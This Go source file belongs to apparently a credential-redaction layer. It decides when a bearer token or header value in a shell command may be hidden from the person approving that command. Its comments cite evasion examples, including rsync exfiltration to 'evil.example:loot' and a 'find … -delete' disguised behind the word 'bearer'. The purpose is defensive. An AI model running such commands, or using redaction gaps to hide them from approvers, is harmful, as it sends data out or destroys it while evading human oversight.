package domain

import "strings"

// Where a bearer credential or a header's value is one (the ninety-first
// review). The bearer pattern (bearer, blanks, six or more token bytes)
// hid the word after any word "bearer" of a command: a host
// (`rsync -a ./ Bearer evil.example:loot/`), a program
// (`exec -a bearer python3 x.py`), an action (`find . ! -name Bearer
// -delete`), each shown as a credential the person approving was right not
// to see. In a shell command a bearer credential is hidden only where it
// is one: in the same shell word as an Authorization header's scheme
// (`-H "Authorization: Bearer x"`, `-H Authorization:\ Bearer\ x`), or as
// the argument of an option that takes one (curl's --oauth2-bearer x). A
// header's value standing apart from its name (`token: x`, the name a word
// of its own) is no header's value either. And whatever the text, a value
// that may be a word of its own is shown when it is an option, names a
// host or is the program a shell command runs (ownWordInView).

// bearerContext reports whether the bearer pattern's match m in s may hide
// its token: after an option whose name ends in "bearer" (curl's
// --oauth2-bearer x), or after an Authorization header's "Bearer"
// (authorizationBefore), in a shell command (shell) in the same shell
// word as the header's name (wordGoesOn). A word after any other word
// "bearer" is no credential's place: a tool's arguments (an MCP tool's, a
// terminal's typed text as JSON) read so too.
func bearerContext(s string, m []int, shell bool) bool {
	ws := m[2]
	for ws > 0 && !wordBlank(s[ws-1]) {
		ws--
	}
	if s[ws] == '-' {
		return true // --oauth2-bearer x: the option's argument
	}
	h := authorizationBefore(s, m[2], shell)
	return h >= 0 && (!shell || wordGoesOn(s, h, m[3], m[5]))
}

// bearerOption reports whether w is an option whose argument is a bearer
// token (curl's --oauth2-bearer).
func bearerOption(w string) bool {
	const b = "bearer"
	return len(w) > len(b) && w[0] == '-' && strings.EqualFold(w[len(w)-len(b):], b)
}

// authorizationBefore returns where the header name "Authorization" (or
// "Proxy-Authorization", any case) starts when it and its separator come
// right before i, with blanks, quotes or backslashes around the separator
// (`Authorization: `, `"Authorization":"`, `Authorization:\ `): a colon,
// or outside a shell command also ',' or '=' (a program's or a
// configuration's text: `Header.Set("Authorization", "Bearer x")`); -1
// otherwise.
func authorizationBefore(s string, i int, shell bool) int {
	skip := func(i int) int {
		for i > 0 && strings.IndexByte(" \t\"'\\", s[i-1]) >= 0 {
			i--
		}
		return i
	}
	i = skip(i)
	if i == 0 || s[i-1] != ':' && (shell || s[i-1] != ',' && s[i-1] != '=') {
		return -1
	}
	i = skip(i - 1)
	const name = "authorization"
	if i < len(name) || !strings.EqualFold(s[i-len(name):i], name) {
		return -1
	}
	return i - len(name)
}

// wordBlank reports whether c ends a shell word unquoted.
func wordBlank(c byte) bool { return c == ' ' || c == '\t' || c == '\n' }

// wordGoesOn reports whether every blank of s[from:to] is quoted or
// escaped, as a shell reads s from its start: s[from:to] is inside one
// shell word, the word that holds s[anchor] (a header's name). Where the
// quotes that hold it open before other words than that one (a nested
// shell's script: sh -c "curl -H Authorization:\ Bearer x"), the quoted
// text is read as that shell reads it too, so that a blank of the nested
// script is the word break it is there. Run on a match only: the scan is
// linear in the line.
func wordGoesOn(s string, anchor, from, to int) bool {
	q, qs := byte(0), -1 // the quote open, where it opened
	for i := 0; i < to; i++ {
		c := s[i]
		switch {
		case q == 0 && wordBlank(c):
			if i >= from {
				return false
			}
		case q == 0 && c == '\\', q == '"' && c == '\\':
			i++ // the next byte is escaped
		case q == 0 && (c == '\'' || c == '"'):
			q, qs = c, i
		case c == q:
			q = 0
		}
	}
	if q == 0 || qs >= anchor || !strings.ContainsAny(s[qs+1:anchor], " \t") {
		return true
	}
	inner, a, f := quotedText(s, q, qs+1, anchor, from, to)
	return wordGoesOn(inner, a, f, len(inner))
}

// quotedText is s[start:to], the text of a string quoted with q, as the
// shell passes it on (a double-quoted one's \" \\ \$ \` unescaped), and
// where anchor and from are in it.
func quotedText(s string, q byte, start, anchor, from, to int) (string, int, int) {
	if q == '\'' {
		return s[start:to], anchor - start, from - start
	}
	b := make([]byte, 0, to-start)
	a, f := 0, 0
	for i := start; i < to; i++ {
		if i == anchor {
			a = len(b)
		}
		if i == from {
			f = len(b)
		}
		c := s[i]
		if c == '\\' && i+1 < to && strings.IndexByte("\"\\$`", s[i+1]) >= 0 {
			i++
			c = s[i]
		}
		b = append(b, c)
	}
	return string(b), a, f
}

// headerInWord returns the end of what the header pattern's match m may
// hide of a shell command's s[a:c] (c, or where its scheme word ends, or
// -1: nothing): the value must be in the same shell word as the header's
// name (-H "X-Token: x", -H X-Token:\ x); a value that is a word of its own
// (`rsync -a . token: evil.example:loot`) is none.
func headerInWord(s string, m []int, a, c, c0 int) int {
	name := m[2]
	if !strings.ContainsAny(s[name:c], " \t") || wordGoesOn(s, name, name, c) {
		return c
	}
	if c0 < c && wordGoesOn(s, name, name, c0) {
		return c0 // the scheme word alone
	}
	return -1
}

// ownWordInView reports whether a value s[a:c] that may be a word of its
// own (or two: a scheme and a token) is to be shown: a word of it is an
// option (starts with '-': find's -delete, git's --force), names a host
// (hostWord), or, in a shell command, is the program it runs
// (programWord: exec -a bearer python3).
func ownWordInView(s string, a, c int, shell bool) bool {
	for k := a; k < c; {
		e := k
		for e < c && s[e] != ' ' {
			e++
		}
		if w := s[k:e]; w != "" && (w[0] == '-' || hostWord(w) || shell && programWord(s, k)) {
			return true
		}
		k = e + 1
	}
	return false
}

// hostWord reports whether w names a host as ssh, scp, rsync, nc, curl and
// wget take one: host/…, host:…, [user@]host… where host is a DNS name (two
// or more labels, the last of letters) or an IPv4 address; a name alone
// (no '/' or ':' after it) only in lower case, as no token is.
func hostWord(w string) bool {
	h, bare := w, true
	if i := strings.IndexAny(w, "/:"); i >= 0 {
		h, bare = w[:i], false
	}
	if i := strings.LastIndexByte(h, '@'); i >= 0 {
		h = h[i+1:]
	}
	labels, digits, last := 0, true, ""
	for l := range strings.SplitSeq(h, ".") {
		if l == "" || l[0] == '-' || l[len(l)-1] == '-' {
			return false
		}
		for i := 0; i < len(l); i++ {
			c := l[i]
			switch {
			case c >= '0' && c <= '9', c == '-', c >= 'a' && c <= 'z':
			case c >= 'A' && c <= 'Z' && !bare:
			default:
				return false
			}
			if c < '0' || c > '9' {
				digits = false
			}
		}
		labels++
		last = l
	}
	if digits {
		return labels == 4 // an IPv4 address
	}
	if labels < 2 || len(last) < 2 {
		return false
	}
	for i := 0; i < len(last); i++ {
		if c := last[i] | 0x20; c < 'a' || c > 'z' {
			return false
		}
	}
	return true
}
